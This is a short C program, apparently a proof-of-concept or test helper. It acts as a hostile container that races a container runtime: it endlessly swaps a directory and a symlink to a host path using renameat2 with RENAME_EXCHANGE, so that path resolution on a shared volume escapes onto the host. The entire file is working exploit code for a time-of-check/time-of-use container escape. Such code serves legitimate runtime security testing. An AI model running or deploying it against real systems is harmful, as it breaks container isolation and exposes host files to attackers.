/* A hostile container sharing a volume: swaps two names (a directory and a
 * symlink to a host path) with renameat2(RENAME_EXCHANGE) as fast as it can,
 * so that a runtime resolving a path in the volume and then using it as a
 * host path string is sent through the symlink. Runs until killed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: exchange A B\n");
        return 2;
    }
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */);
}
